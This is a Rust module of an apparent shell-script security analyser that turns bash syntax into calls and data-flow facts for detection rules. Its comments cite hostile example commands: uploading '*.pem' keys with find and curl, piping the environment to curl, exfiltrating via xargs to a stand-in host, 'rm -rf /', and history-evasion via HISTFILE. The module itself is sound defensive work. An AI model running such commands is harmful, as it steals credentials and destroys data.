//! Shell syntax tree to facts.
//!
//! Every simple command becomes a call named after the program it runs (directory stripped), with
//! its words as arguments and its options split into flags. Wrappers (`sudo`, `nohup`, `env`,
//! `find -exec`, ... as declared by the rule set) yield a call for the wrapper and one for the
//! command they run. Redirections become pseudo-commands named `>`, `>>`, `<` and `<>` whose first
//! argument is the path, so "writes to /etc" is one rule whether it is `tee /etc/x` or `> /etc/x`.
//! Data flows through variables, command substitutions and pipelines: what a stage reads or
//! produces reaches the next stage's standard input.
//!
//! The source is parsed by `airlock_bash_parser`, a parser written for this (error-tolerant, bounded).

use crate::budget::with_stack;
use crate::context::{Context, SyntaxErrors};
use crate::effects::program_name;
use crate::facts::{Binding, BindingKind, Call, Expr, LineIndex, Span, StringLit, Taints, Value};
use crate::rules::Embedded;
use airlock_bash_parser::ast::{
    AssignValue, Assignment, CompoundKind, Declaration, DeclarationArg, Function, Heredoc, Pipeline, Range, Simple,
    Stmt, StmtKind, WordPart,
};
use airlock_protocol::request::Language;
use rustc_hash::FxHashMap as HashMap;

mod children;
mod follow;
mod piped;
mod reachable;
mod redirects;
#[cfg(test)]
mod tests;
mod walker;
mod words;

use walker::{Body, Pipe, Piped, Walker};

use words::literal_word;

pub fn extract(ctx: &mut Context<'_>, source: &str, outer: Option<Span>) -> Option<SyntaxErrors> {
    let script = match airlock_bash_parser::parse(source, ctx.max_depth, &mut ctx.budget) {
        Ok(script) => script,
        Err(stopped) => {
            ctx.budget.parsed_to = stopped.parsed_to;
            return None;
        }
    };
    let lines = LineIndex::new(source);
    if outer.is_none() {
        ctx.trojan = crate::trojan::bash(source);
    }
    let mut errors = SyntaxErrors::default();
    for error in &script.errors {
        errors.add(lines.line(error.offset as usize));
    }
    errors.count = script.error_count;
    if let Some(at) = script.too_deep_at {
        ctx.too_deep = true;
        ctx.reached(lines.line(at as usize), outer);
    }
    let mut walker = Walker::new(ctx, source, &script.heredocs, &lines, outer);
    walker.runnable = reachable::runnable_functions(&script.body, source);
    walker.statements(&script.body, 0, &Pipe::default());
    walker.functions_called_at_run_time();
    Some(errors)
}

/// A command given as an argument vector (`subprocess.run(["rm", "-rf", "/"])`).
pub fn command_from_argv(ctx: &mut Context<'_>, argv: Vec<Expr>, span: Span) {
    let lines = LineIndex::new("");
    let mut walker = Walker::new(ctx, "", &[], &lines, Some(span));
    for word in &argv {
        walker.record_string(word, span);
    }
    walker.command_from_words(argv, span, &Pipe::default(), Vec::new());
    // No function is defined here: a name built at run time is a program not known.
    walker.dispatched_functions();
}

/// Pipeline stages named in a command's `pipe_from` and `pipe_to` (the nearest ones).
const MAX_PIPE_NAMES: usize = 32;

impl<'c, 'r, 's> Walker<'c, 'r, 's> {
    fn new(
        ctx: &'c mut Context<'r>,
        source: &'s str,
        heredocs: &'s [Heredoc],
        lines: &'s LineIndex,
        outer: Option<Span>,
    ) -> Self {
        Walker {
            ctx,
            source,
            heredocs,
            lines,
            outer,
            vars: HashMap::default(),
            functions: HashMap::default(),
            positional: None,
            calling: Vec::new(),
            followed: 0,
            depth: 0,
            cwd: None,
            expanded: 0,
            in_definition: 0,
            runnable: Default::default(),
            never_called: Vec::new(),
            dispatched: Vec::new(),
            printed: None,
            piped: None,
        }
    }

    fn text(&self, range: Range) -> &'s str {
        range.text(self.source)
    }

    /// The span of a range, or the outer span for embedded code.
    fn span(&self, range: Range) -> Span {
        match self.outer {
            Some(outer) => outer,
            None => self.lines.span(range.start as usize, range.end as usize),
        }
    }

    /// Visits statements in order; returns the labels of what they write to standard output.
    fn statements(&mut self, list: &'s [Stmt], depth: u32, pipe: &Pipe) -> Taints {
        let mut output = Taints::NONE;
        for stmt in list {
            output = output.union(self.visit(stmt, depth, pipe));
            if depth == 0 && self.outer.is_none() && self.replaced_by(stmt) {
                break;
            }
        }
        output
    }

    /// `exec PROGRAM ...` (or `eval 'exec PROGRAM ...'`) at the top of a script replaces the
    /// shell: nothing after it runs as shell. A script that hands itself (`"$0"`) to another
    /// interpreter, the head of a Python or Perl program (`exec python3 "$0" "$@"`), is that
    /// interpreter's code: the whole file is read as such (Python), or is code in a language
    /// not read here, which fails closed.
    fn replaced_by(&mut self, stmt: &'s Stmt) -> bool {
        let StmtKind::Simple(simple) = &stmt.kind else {
            return false;
        };
        let unquote = |t: &str| t.trim_matches(|c| c == '"' || c == '\'').to_string();
        let mut words: Vec<String> = simple.words.iter().map(|w| unquote(self.text(w.range))).collect();
        if words.len() == 2 && words[0] == "eval" && words[1].starts_with("exec ") {
            words = words[1].split_whitespace().map(unquote).collect();
        }
        if words.first().map(String::as_str) != Some("exec") {
            return false;
        }
        let Some(program) = words[1..].iter().find(|w| !w.starts_with('-')).map(|w| program_name(w)) else {
            return false;
        };
        let runs_itself = words.iter().any(|w| matches!(w.as_str(), "$0" | "${0}"));
        if !runs_itself {
            return true;
        }
        if redirects::is_shell(&program) {
            // The same script again under another shell: what follows runs after all.
            return false;
        }
        let language = if program.starts_with("python") {
            "python".to_string()
        } else {
            self.ctx.rules.effects.stdin_language(&program).unwrap_or(program)
        };
        let span = self.span(stmt.range);
        let code = Expr::new(Value::Str(self.source.to_string()));
        self.ctx.inline_code(&language, &code, span);
        true
    }

    /// Visits a statement; returns the labels of what it writes to standard output.
    fn visit(&mut self, stmt: &'s Stmt, depth: u32, pipe: &Pipe) -> Taints {
        with_stack(|| self.visit_stmt(stmt, depth, pipe))
    }

    fn visit_stmt(&mut self, stmt: &'s Stmt, depth: u32, pipe: &Pipe) -> Taints {
        if self.ctx.stop_at(depth) {
            return Taints::NONE;
        }
        self.depth = depth;
        if self.outer.is_none() {
            let line = self.lines.line(stmt.range.start as usize);
            self.ctx.reached(line, None);
        }
        match &stmt.kind {
            StmtKind::Simple(simple) => self.simple(stmt, simple, depth, pipe),
            StmtKind::Declaration(declaration) => self.redirected(
                &declaration.redirects,
                stmt.range,
                Body::Declaration(declaration),
                depth,
                pipe,
            ),
            StmtKind::Pipeline(pipeline) => self.pipeline(pipeline, depth, pipe),
            StmtKind::AndOr(list) => {
                let mut output = self.visit(&list.first, depth, pipe);
                for (_, stmt) in &list.rest {
                    output = output.union(self.visit(stmt, depth, pipe));
                }
                output
            }
            StmtKind::Compound(compound) => self.redirected(
                &compound.redirects,
                stmt.range,
                Body::Compound(&compound.kind),
                depth,
                pipe,
            ),
            StmtKind::Function(function) => self.function(stmt, function, depth, pipe),
        }
    }

    fn simple(&mut self, stmt: &'s Stmt, simple: &'s Simple, depth: u32, pipe: &Pipe) -> Taints {
        if simple.redirects.is_empty() {
            return self.body(Body::Simple(simple), stmt.range, depth, pipe);
        }
        self.redirected(&simple.redirects, stmt.range, Body::Simple(simple), depth, pipe)
    }

    /// Runs what redirections apply to.
    fn body(&mut self, body: Body<'s>, range: Range, depth: u32, pipe: &Pipe) -> Taints {
        match body {
            Body::Simple(simple) if simple.words.is_empty() => {
                // Assignments alone set variables; a redirection alone (`> f`) runs nothing,
                // but `$(< file)` is the file's content: an input redirection alone gives what
                // it reads.
                for assignment in &simple.assignments {
                    self.assignment(assignment, depth);
                }
                if simple.assignments.is_empty() {
                    pipe.stdin
                } else {
                    Taints::NONE
                }
            }
            Body::Simple(simple) => self.command(simple, depth, pipe),
            Body::Declaration(declaration) => self.declaration(declaration, range, depth, pipe),
            Body::Compound(kind) => self.compound(kind, range, depth + 1, pipe),
        }
    }

    fn function(&mut self, stmt: &'s Stmt, function: &'s Function, depth: u32, pipe: &Pipe) -> Taints {
        let name = literal_word(self.text(function.name.range));
        if self.pipes_into_itself(&function.body, &name) {
            let fact = Call::new("@fork-bomb".into(), self.span(stmt.range));
            self.ctx.shell.push_call(fact);
        }
        // A function nothing that runs names is never run (a plugin's or a library's functions,
        // there for an interactive shell that sources the file).
        let runnable = self.runnable.contains(&name);
        self.functions.insert(name.clone(), &function.body);
        if !runnable {
            self.never_called.push((name, &function.body, depth + 1));
            return Taints::NONE;
        }
        // The body once as written (parameters unknown), for what it does whoever calls it.
        self.in_definition += 1;
        let output = self.visit(&function.body, depth + 1, pipe);
        self.in_definition -= 1;
        output
    }

    fn compound(&mut self, kind: &'s CompoundKind, range: Range, depth: u32, pipe: &Pipe) -> Taints {
        match kind {
            CompoundKind::Group(body) | CompoundKind::Subshell(body) => self.statements(body, depth, pipe),
            CompoundKind::If(clause) => {
                let mut output = Taints::NONE;
                for (condition, body) in &clause.branches {
                    output = output.union(self.statements(condition, depth, pipe));
                    output = output.union(self.statements(body, depth, pipe));
                }
                if let Some(body) = &clause.otherwise {
                    output = output.union(self.statements(body, depth, pipe));
                }
                output
            }
            CompoundKind::While(clause) => {
                let output = self.statements(&clause.condition, depth, pipe);
                output.union(self.looped(|w| w.statements(&clause.body, depth, pipe)))
            }
            CompoundKind::For(clause) => self.looped(|w| w.for_statement(clause, range, depth, pipe)),
            CompoundKind::ArithFor(parts, body) => {
                let output = self.parts_taints(parts, depth);
                output.union(self.looped(|w| w.statements(body, depth, pipe)))
            }
            CompoundKind::Case(case) => {
                let subject = self.word(&case.word, depth);
                let mut output = subject.taints;
                let mut compared = vec![subject];
                for item in &case.items {
                    for pattern in &item.patterns {
                        let pattern = self.word(pattern, depth);
                        output = output.union(pattern.taints);
                        compared.push(pattern);
                    }
                    output = output.union(self.statements(&item.body, depth, pipe));
                }
                self.comparison("@case", compared, range);
                output
            }
            CompoundKind::Test(words) => {
                let words: Vec<Expr> = words.iter().map(|w| self.word(w, depth)).collect();
                let output = words.iter().fold(Taints::NONE, |t, w| t.union(w.taints));
                self.comparison("@test", words, range);
                output
            }
            CompoundKind::Arith(parts) => self.parts_taints(parts, depth),
            CompoundKind::Coproc(body) => self.visit(body, depth, pipe),
        }
    }

    /// The labels of expansions and substitutions (inside arithmetic), visiting what they run.
    fn parts_taints(&mut self, parts: &'s [WordPart], depth: u32) -> Taints {
        let mut taints = Taints::NONE;
        for part in parts {
            taints = taints.union(self.part(part, depth).taints);
        }
        taints
    }

    fn assignment(&mut self, assignment: &'s Assignment, depth: u32) {
        let mut value = self.assigned_value(&assignment.value, depth);
        let name = self.text(assignment.name).to_string();
        // `x+=y` adds to what x held.
        if assignment.append
            && let Some(before) = self.vars.get(&name)
        {
            value = appended(before, value);
        }
        let span = self.span(assignment.range);
        let line = span.line;
        let value = value.step(|| "a command's output".into(), || format!("`{name}` (line {line})"));
        self.preload(&name, &value, span);
        let binding = Binding {
            kind: BindingKind::Assign,
            target: name.clone(),
            value: value.clone(),
            span,
        };
        self.ctx.shell.push_binding(binding);
        self.vars.insert(name, value);
    }

    fn assigned_value(&mut self, value: &'s AssignValue, depth: u32) -> Expr {
        match value {
            AssignValue::Empty => Expr::new(Value::Str(String::new())),
            AssignValue::Word(word) => self.word(word, depth),
            AssignValue::Array(range, words) => {
                let mut taints = Taints::NONE;
                let mut elements = Vec::with_capacity(words.len());
                for word in words {
                    let element = self.word(word, depth);
                    taints = taints.union(element.taints);
                    elements.push(element);
                }
                // An array of literal words (`cmd=(ls -la)`) keeps them: `"${cmd[@]}"` is them.
                let value = if elements.iter().all(|e| matches!(e.value, Value::Str(_))) {
                    Value::Seq(elements)
                } else {
                    Value::Formatted(self.text(*range).to_string())
                };
                Expr {
                    value,
                    taints,
                    trail: None,
                }
            }
        }
    }

    /// `export A=b`, `local x`, `unset HISTFILE`: assignments, and a command named after the
    /// keyword whose arguments are the words as written (`HISTFILE=/dev/null`).
    fn declaration(&mut self, declaration: &'s Declaration, range: Range, depth: u32, pipe: &Pipe) -> Taints {
        let keyword = literal_word(self.text(declaration.keyword.range));
        let end = match declaration.args.last() {
            Some(DeclarationArg::Word(word)) => word.range.end,
            Some(DeclarationArg::Assignment(assignment)) => assignment.range.end,
            None => declaration.keyword.range.end,
        };
        let span = self.span(Range {
            start: range.start,
            end,
        });
        let mut words = vec![Expr::new(Value::Str(keyword))];
        // `declare -n ref=CMD`: `ref` names the variable `CMD`, and `$ref` is its value.
        let nameref = declaration.args.iter().any(|arg| {
            matches!(arg, DeclarationArg::Word(word)
                if self.text(word.range).strip_prefix('-').is_some_and(|flags| flags.contains('n') && flags.bytes().all(|b| b.is_ascii_alphabetic())))
        });
        for arg in &declaration.args {
            match arg {
                DeclarationArg::Assignment(assignment) => {
                    self.assignment(assignment, depth);
                    let name = self.text(assignment.name);
                    if nameref
                        && let Some(Expr {
                            value: Value::Str(target),
                            ..
                        }) = self.vars.get(name)
                        && !target.is_empty()
                        && target.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                    {
                        let referred = self
                            .vars
                            .get(target.as_str())
                            .cloned()
                            .unwrap_or_else(|| Expr::new(Value::Formatted(format!("${target}"))));
                        self.vars.insert(name.to_string(), referred);
                    }
                    let value = self
                        .vars
                        .get(name)
                        .cloned()
                        .unwrap_or_else(|| Expr::new(Value::Str(String::new())));
                    let text = format!("{name}={}", value.text().unwrap_or_default());
                    let word = Expr::built(text, matches!(value.value, Value::Str(_)), value.taints);
                    self.record_string(&word, span);
                    words.push(word);
                }
                DeclarationArg::Word(word) => {
                    let word = self.word(word, depth);
                    self.record_string(&word, span);
                    words.push(word);
                }
            }
        }
        self.command_from_words(words, span, pipe, Vec::new())
    }

    fn pipeline(&mut self, pipeline: &'s Pipeline, depth: u32, pipe: &Pipe) -> Taints {
        let names: Vec<String> = pipeline.stages.iter().map(|s| self.stage_name(s)).collect();
        let mut stdin = pipe.stdin;
        for (i, stage) in pipeline.stages.iter().enumerate() {
            if self.ctx.stop_at(depth) {
                break;
            }
            // The nearest stages on each side: a pipeline of thousands of stages must not make
            // every stage carry all the others.
            let mut from = pipe.from.clone();
            from.extend(names[..i].iter().cloned());
            let excess = from.len().saturating_sub(MAX_PIPE_NAMES);
            from.drain(..excess);
            let mut to: Vec<String> = names[i + 1..].iter().take(MAX_PIPE_NAMES).cloned().collect();
            to.extend(pipe.to.iter().take(MAX_PIPE_NAMES.saturating_sub(to.len())).cloned());
            let stage_pipe = Pipe { stdin, from, to };
            // What the stage before printed, for an interpreter that reads its program here.
            let printed = self.printed.take();
            self.piped = (i > 0).then(|| printed.map_or(Piped::Other, Piped::Printed));
            stdin = self.visit(stage, depth, &stage_pipe);
            self.piped = None;
        }
        stdin
    }

    /// The program a pipeline stage runs, for `pipe_from` / `pipe_to`.
    fn stage_name(&self, stage: &Stmt) -> String {
        match &stage.kind {
            StmtKind::Simple(simple) => self.program_of(simple),
            _ => String::new(),
        }
    }

    /// The program a simple command runs, as written (empty for a bare assignment).
    fn program_of(&self, simple: &Simple) -> String {
        simple
            .words
            .first()
            .map(|name| program_name(&literal_word(self.text(name.range))))
            .unwrap_or_default()
    }

    fn command(&mut self, simple: &'s Simple, depth: u32, pipe: &Pipe) -> Taints {
        let span = self.span(simple.command_range);
        // `[ -f x ]` tests: its words are looked at (substitutions run) and, when they carry
        // labels, recorded as a comparison; nothing else.
        if let Some(first) = simple.words.first()
            && matches!(&first.parts[..], [WordPart::Literal(r)] if self.text(*r) == "[")
        {
            let words: Vec<Expr> = simple.words[1..].iter().map(|w| self.word(w, depth)).collect();
            let output = words.iter().fold(Taints::NONE, |t, w| t.union(w.taints));
            self.comparison("@test", words, simple.command_range);
            return output;
        }
        let mut stdin = pipe.stdin;
        for assignment in &simple.assignments {
            // `FOO=bar cmd` sets FOO for cmd only; its value still carries labels.
            if matches!(assignment.value, AssignValue::Empty) {
                continue;
            }
            let value = self.assigned_value(&assignment.value, depth);
            stdin = stdin.union(value.taints);
            let name = self.text(assignment.name);
            self.preload(name, &value, span);
        }
        let mut words = Vec::with_capacity(simple.words.len());
        for (i, word) in simple.words.iter().enumerate() {
            let word = if i == 0 {
                self.command_name(word, depth)
            } else {
                self.word(word, depth)
            };
            // `"${cmd[@]}"` of a literal array is its words.
            let expanded = match word.value {
                Value::Seq(items) => items,
                _ => vec![word],
            };
            for word in expanded {
                self.record_string(&word, span);
                words.push(word);
            }
        }
        self.command_from_words(words, span, &pipe.with_stdin(stdin), Vec::new())
    }

    /// `run() { "$@"; }`, `f() { local cmd=$1; $cmd; }` seen as written: a function that runs
    /// the command (or evaluates the code) its caller gives. Calls in the script are followed
    /// with their words (and are asked about when those are unknown); a caller outside the
    /// script is other code.
    fn runs_its_callers_command(&self, first: &Expr) -> bool {
        self.in_definition > 0
            && self.positional.is_none()
            && matches!(&first.value, Value::Formatted(text) if words::only_positional_holes(text))
    }

    /// `eval "$(pyenv init - bash)"`, `eval "$(kubectl completion bash)"`, `eval $(apt-config
    /// shell KEY Opt::Key)`: the code run is what a program the script names, given literal
    /// words only, prints to set itself up in this shell (completion, init, hook, aliases). That
    /// program is chosen by the script and, for these words, reads, fetches and runs nothing the
    /// tool table or the fallback can see (`cat`, `curl`, `base64 -d` print data from elsewhere):
    /// its output is its own, as a file the script sources by a literal name is. A program or a
    /// word known only at run time (`"$1" completion bash`) is still not followed.
    fn prints_its_shell_integration(&self, first: &Expr) -> bool {
        let Some(words) = first.text().as_deref().and_then(words::integration_command) else {
            return false;
        };
        let name = program_name(&words[0]);
        let exprs: Vec<Expr> = words.iter().map(|w| Expr::new(Value::Str(w.clone()))).collect();
        let call = Call::new(name.clone(), Span::default());
        let effects = if self.ctx.rules.effects.tool(&name).is_some() {
            self.ctx.rules.effects.shell_effects(&name, &exprs, &call)
        } else {
            crate::effects::unknown_program_effects(&name, &exprs, &call)
        };
        !self.functions.contains_key(&name)
            && self.ctx.rules.wrapper(&name).is_none()
            && effects.iter().all(|f| {
                !matches!(
                    f.call.name.as_str(),
                    "@read" | "@fetch" | "@send" | "@connect" | "@exec" | "@run" | "@shell" | "@load"
                )
            })
    }

    fn record_string(&mut self, word: &Expr, span: Span) {
        let (text, formatted) = match &word.value {
            Value::Str(s) => (s.clone(), false),
            Value::Formatted(s) => (s.clone(), true),
            _ => return,
        };
        self.ctx.shell.push_string(StringLit { text, formatted, span });
    }

    /// Builds the call for an argument vector, unwrapping wrappers; returns the labels of its
    /// output.
    fn command_from_words(&mut self, words: Vec<Expr>, span: Span, pipe: &Pipe, via: Vec<String>) -> Taints {
        let Some(first) = words.first() else {
            return pipe.stdin;
        };
        let mut name = program_name(&first.text().unwrap_or_default());
        // `subprocess.run([sys.executable, ...])` runs Python.
        if name == "sys.executable" {
            name = "python3".into();
        }
        // A program known only when the script runs (`$cmd`, `"$@"`, `$(cat f)`, a word read
        // from input): what it does cannot be followed.
        if !matches!(first.value, Value::Str(_))
            && name != "python3"
            && !self.runs_its_callers_command(first)
            && !self.prints_its_shell_integration(first)
            && !first.text().as_deref().is_some_and(words::prints_nothing)
        {
            let mut opaque = Call::new("@opaque".into(), span);
            opaque.flags.push("command".into());
            opaque.taints = first.taints;
            opaque.args.push(first.clone());
            match first.text().as_deref().and_then(words::function_family) {
                Some((prefix, suffix)) => self.dispatched.push(walker::Dispatch {
                    prefix,
                    suffix,
                    unknown: opaque,
                }),
                None => self.ctx.shell.push_call(opaque),
            }
        }
        let mut call = Call::new(name.clone(), span);
        call.taints = pipe.stdin.union(first.taints);
        call.pipe_from = pipe.from.clone();
        call.pipe_to = pipe.to.clone();
        call.via = via.clone();
        let mut options_done = false;
        for word in words.iter().skip(1) {
            call.taints = call.taints.union(word.taints);
            if let Value::Str(text) = &word.value
                && !options_done
            {
                if text == "--" {
                    options_done = true;
                } else if let Some(long) = text.strip_prefix("--") {
                    let long = long.split('=').next().unwrap_or_default();
                    call.flags.push(long.to_string());
                } else if let Some(short) = text.strip_prefix('-')
                    && !short.is_empty()
                    && short.chars().all(|c| c.is_ascii_alphanumeric())
                {
                    call.flags.extend(short.chars().map(String::from));
                }
            }
            call.args.push(word.clone());
        }
        let labels = self.ctx.rules.call_labels(Language::Bash, &call);
        let mut output = call.taints.union(labels);
        if let Some(text) = piped::printed(&name, &words) {
            self.printed = Some(text);
        }
        if self.piped.is_some()
            && let Some(language) = piped::reads_program_from_stdin(&name, &words)
        {
            self.program_from_pipe(language, pipe.stdin, span);
        }
        if children::narrows_to_own_children(&name, &words) {
            output = output.without(self.ctx.rules.label("process_list"));
        }
        let embedded = self.ctx.rules.embedded(Language::Bash, &call);

        let inner = self.ctx.rules.wrapper(&name).map(|w| w.inner_command(&words));
        if name == "parallel" {
            output = output.union(self.parallel_commands(&words, span, pipe));
        }
        if name == "read" {
            self.read_into_variables(&words, &call);
        }
        // `json=$1; shift; for e in "$@"`: the arguments after the first.
        if name == "shift"
            && let Some(arguments) = &mut self.positional
        {
            let count = match words.get(1).map(|w| &w.value) {
                None => Some(1),
                Some(Value::Str(n)) => n.parse::<usize>().ok(),
                _ => None,
            };
            // With a count not known, which arguments remain is not known: all are kept.
            if let Some(count) = count {
                arguments.drain(..count.min(arguments.len()));
            }
        }
        if name == "cd" {
            self.cwd = match words.get(1).map(|w| &w.value) {
                None => Some("~".into()),
                Some(Value::Str(dir)) if dir != "-" => Some(match &self.cwd {
                    Some(cwd) if !dir.starts_with(['/', '~', '$']) => format!("{}/{dir}", cwd.trim_end_matches('/')),
                    _ => dir.clone(),
                }),
                _ => None,
            };
        }
        // A function the script defines runs instead of a program of the same name (a prompt
        // theme's `chroot` that prints the chroot's name is not chroot(8)).
        let own_function = self.functions.contains_key(&name);
        let known = !own_function && self.ctx.rules.effects.tool(&name).is_some();
        let mut found = if known {
            self.ctx.rules.effects.shell_effects(&name, &words, &call)
        } else if own_function
            || self.ctx.rules.wrapper(&name).is_some()
            || embedded.is_some()
            || !matches!(first.value, Value::Str(_))
        {
            // The script's own functions are followed, wrappers run a command analysed on its
            // own, code given to an interpreter is analysed as code.
            Vec::new()
        } else {
            crate::effects::unknown_program_effects(&name, &words, &call)
        };
        if let Some(cwd) = &self.cwd {
            for item in &mut found {
                if let Some(operand) = item.call.args.first_mut()
                    && let Value::Str(path) = &operand.value
                    && !path.is_empty()
                    && !path.starts_with(['/', '~', '$', '-'])
                    && !path.contains("://")
                {
                    let relative = path.trim_start_matches("./");
                    operand.value = Value::Str(format!("{}/{relative}", cwd.trim_end_matches('/')));
                }
            }
        }
        // A program run by its path (`./agent`, `/tmp/x`, `"$job"`) runs that file. It is
        // recorded on its own: what the command itself reads or downloads is its output, not
        // the program (`/usr/bin/rsync host:x .` does not run what rsync fetches).
        let mut program_run = Vec::new();
        if let Some(path) = first.text().filter(|t| t.contains('/')) {
            let mut fact = Call::new("@run".into(), span);
            fact.via = vec![name.clone()];
            fact.taints = first.taints;
            fact.args.push(Expr {
                value: Value::Str(path.into_owned()),
                taints: first.taints,
                trail: first.trail.clone(),
            });
            program_run.push(crate::effects::Found { call: fact, code: None });
        }
        // `py() { python3 "$@"; }`, `load() { source "$1"; }` as written: the file is whatever
        // a caller names.
        let runs_callers_file = |f: &crate::effects::Found| {
            matches!(f.call.name.as_str(), "@run" | "@load" | "@exec")
                && f.call.args.first().is_some_and(|a| self.runs_its_callers_command(a))
        };
        found.retain(|f| !runs_callers_file(f));
        // `source <(helm completion bash)`: the program's own set-up code, as with `eval`.
        found.retain(|f| {
            !(matches!(name.as_str(), "source" | ".")
                && f.call.name == "@run"
                && f.call
                    .args
                    .first()
                    .is_some_and(|a| self.prints_its_shell_integration(a)))
        });
        program_run.retain(|f| !runs_callers_file(f));
        // ... and `set_var() { eval "$1=\"\$2\""; }` evaluates what a caller passes.
        for item in &mut found {
            if item
                .code
                .as_ref()
                .is_some_and(|(_, code)| self.runs_its_callers_command(code))
            {
                item.code = None;
            }
        }
        // `curl ... | python3 -c 'import json,sys; print(json.load(sys.stdin))'`: an interpreter
        // given its code reads the download as data; the code is analysed for what it does
        // with it (and `-c "$(curl ...)"` is downloaded code).
        // (`perl -e "$(echo ... | base64 -d)"`: code that is itself downloaded or decoded is not
        // the interpreter given its code.)
        let hidden = self
            .ctx
            .rules
            .label("downloaded")
            .union(self.ctx.rules.label("decoded"));
        let code_given = (matches!(
            embedded,
            Some(Embedded::Source(..) | Embedded::Opaque(..) | Embedded::Partial(..))
        ) || found.iter().any(|f| f.code.is_some()))
            && words[1..].iter().all(|w| !w.taints.intersects(hidden));
        if code_given {
            call.flags.push(INLINE_CODE_FLAG.into());
        }
        if let Some(inner) = &inner
            && is_privilege_probe(&name, &words, inner)
        {
            // `sudo -v`, `sudo -n true`: asks whether sudo would run without a password, runs
            // nothing as root (prompt themes show it).
            found.retain(|f| f.call.name != "@privilege");
            call.flags.push(PROBE_FLAG.into());
        }
        output = output.union(self.ctx.record_effects(Language::Bash, program_run));
        // What a command makes is what it writes: a screenshot tool's file holds the screen, a
        // key logger's file the keys (the labels of its output go with its own writes).
        for item in &mut found {
            if matches!(item.call.name.as_str(), "@write" | "@append") {
                item.call.taints = item.call.taints.union(labels);
            }
        }
        output = output.union(self.ctx.record_effects(Language::Bash, found));
        self.ctx.shell.push_call(call);
        let depth = self.depth;
        if let Some(function_output) = self.follow_function(&name, &words, span, pipe, depth) {
            output = output.union(function_output);
        }
        match embedded {
            // `set_var() { eval "$1=\"\$2\""; }` as written: the code is made of what its callers
            // pass; calls in the script are followed with their words.
            Some(Embedded::Source(_, code))
                if self.runs_its_callers_command(&Expr::new(Value::Formatted(code.clone()))) => {}
            Some(Embedded::Source(language, code)) => {
                // What the code takes in is what it can print: `python3 -c 'print(dict(os.environ))'
                // | curl -d @- URL` sends the environment.
                let before = self.ctx.facts(language).calls.len();
                self.ctx.extract_embedded(language, &code, span);
                let local = self.local_data_labels();
                let taken = self.ctx.facts(language).calls[before..]
                    .iter()
                    .fold(Taints::NONE, |t, c| t.union(c.taints));
                output = output.union(Taints(taken.0 & local.0));
            }
            Some(Embedded::Opaque(_, code)) if self.runs_its_callers_command(&code) => {}
            Some(Embedded::Opaque(language, code)) => self.ctx.opaque_code(Language::Bash, language, &code, span),
            Some(Embedded::Argv(argv)) => {
                self.command_from_words(argv, span, pipe, via.clone());
            }
            // (Made for Python's `exec` only: read as far as it is known, and asked about.)
            Some(Embedded::Partial(language, text, code)) => {
                self.ctx.opaque_code(Language::Bash, language, &code, span);
                self.ctx.extract_embedded(language, &text, span);
            }
            None => {}
        }
        if let Some(mut inner) = inner
            && !inner.is_empty()
        {
            // `find / -name '*.pem' -exec curl -F f=@{} URL \;`: `{}` is each file found under
            // find's starting point.
            if name == "find"
                && let Some(start) = words[1..]
                    .iter()
                    .take_while(|w| w.text().is_some_and(|t| !t.starts_with(['-', '(', '!'])))
                    .find_map(|w| match &w.value {
                        Value::Str(t) => Some(t.clone()),
                        _ => None,
                    })
            {
                let under = format!("{}/{{}}", start.trim_end_matches('/'));
                for word in inner.iter_mut().skip(1) {
                    if let Value::Str(text) = &word.value
                        && text.contains("{}")
                    {
                        word.value = Value::Str(text.replace("{}", &under));
                    }
                }
            }
            // `... | xargs -I{} curl "https://h/?d={}"`: xargs makes the command's arguments from
            // its standard input (where the placeholder is, or after the words given).
            if name == "xargs" && !pipe.stdin.is_empty() {
                let placeholder = xargs_placeholder(&words);
                let mut placed = false;
                if let Some(placeholder) = &placeholder {
                    // (A word that is only the placeholder, `sh -c '{}'`, is code xargs fills in:
                    // asked about as such, not data.)
                    for word in inner.iter_mut().skip(1) {
                        if word
                            .text()
                            .is_some_and(|t| t.contains(placeholder.as_str()) && t.as_ref() != placeholder.as_str())
                        {
                            word.taints = word.taints.union(pipe.stdin);
                            placed = true;
                        }
                    }
                }
                if !placed && placeholder.is_none() {
                    inner.push(Expr::other(pipe.stdin));
                }
            }
            let mut inner_via = via;
            inner_via.push(name);
            return output.union(self.command_from_words(inner, span, pipe, inner_via));
        }
        output
    }
}

impl<'s> Walker<'_, '_, 's> {
    /// GNU parallel runs its command once per argument after `:::` (or per line of its input);
    /// with no command, each argument (or input line) is itself a command line.
    fn parallel_commands(&mut self, words: &[Expr], span: Span, pipe: &Pipe) -> Taints {
        const WITH_VALUE: &[&str] = &[
            "-j",
            "--jobs",
            "-P",
            "--max-procs",
            "-S",
            "--sshlogin",
            "--joblog",
            "-a",
            "--arg-file",
            "--colsep",
            "-d",
            "--delimiter",
            "-I",
            "--results",
            "--timeout",
            "--retries",
            "--tmpdir",
            "-n",
            "-N",
            "-L",
            "--max-args",
            "--halt",
            "--delay",
            "--memfree",
            "--load",
        ];
        let mut i = 1;
        while let Some(text) = words.get(i).and_then(|w| w.text()) {
            if !text.starts_with('-') || text == "-" || text.starts_with(":::") {
                break;
            }
            // `parallel -V`, `--help`, `--citation`, `--number-of-cores`: it reports, runs nothing.
            if matches!(
                text.as_ref(),
                "-V" | "--version"
                    | "-h"
                    | "--help"
                    | "--citation"
                    | "--bibtex"
                    | "--number-of-cpus"
                    | "--number-of-cores"
                    | "--number-of-sockets"
                    | "--number-of-threads"
                    | "--max-line-length-allowed"
            ) {
                return Taints::NONE;
            }
            i += if WITH_VALUE.contains(&text.as_ref()) { 2 } else { 1 };
        }
        let rest = words.get(i..).unwrap_or_default();
        let separator = rest.iter().position(|w| {
            w.text()
                .is_some_and(|t| matches!(t.as_ref(), ":::" | "::::" | ":::+" | "::::+"))
        });
        let command = &rest[..separator.unwrap_or(rest.len())];
        let arguments = separator.map(|s| &rest[s + 1..]).unwrap_or_default();
        let argument_taints = arguments.iter().fold(pipe.stdin, |t, a| t.union(a.taints));
        if !command.is_empty() {
            let mut argv = command.to_vec();
            argv.push(Expr::other(argument_taints));
            return self.command_from_words(argv, span, pipe, vec!["parallel".into()]);
        }
        if separator.is_some() {
            for argument in arguments {
                match argument.text() {
                    Some(text) if argument.is_literal() => {
                        let text = text.into_owned();
                        self.ctx.extract_embedded(Language::Bash, &text, span);
                    }
                    _ => self.ctx.opaque_code(Language::Bash, Language::Bash, argument, span),
                }
            }
        } else {
            // Commands read from its input: a file of the working directory is the program's own.
            self.ctx
                .opaque_code(Language::Bash, Language::Bash, &Expr::other(pipe.stdin), span);
        }
        Taints::NONE
    }
}

